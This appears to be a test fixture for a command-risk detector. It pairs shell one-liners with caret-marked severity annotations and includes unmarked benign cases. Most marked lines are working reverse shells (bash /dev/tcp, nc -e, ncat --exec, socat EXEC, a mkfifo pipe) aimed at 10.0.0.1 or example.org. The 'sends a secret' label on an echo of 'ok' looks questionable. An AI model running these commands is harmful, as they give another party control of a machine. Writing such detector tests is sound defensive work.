bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
#^^^^^^ critical: hands a shell of this machine to whoever is at the other end
sh -i > /dev/tcp/10.0.0.1/4444
#^^^^ critical: hands a shell of this machine to whoever is at the other end
echo ok > /dev/tcp/10.0.0.1/22
#^^^^^^ high: sends a secret of this machine away [secret-sent]
nc -e /bin/sh 10.0.0.1 4444
#^^^^^^^^^^^^^^^^^^^^^^^^^^ critical: hands a shell of this machine to whoever is at the other end
ncat --exec "/bin/bash" example.org 4444
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ critical: hands a shell of this machine to whoever is at the other end
nc -z example.org 443
nc -l 8080
socat TCP:example.org:4444 EXEC:/bin/sh
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ critical: hands a shell of this machine to whoever is at the other end
socat TCP-LISTEN:80,fork TCP:localhost:8080
mkfifo f; cat f | sh -i 2>&1 | nc example.org 4444 > f
#                 ^^^^^ critical: hands a shell of this machine to whoever is at the other end
bash -i
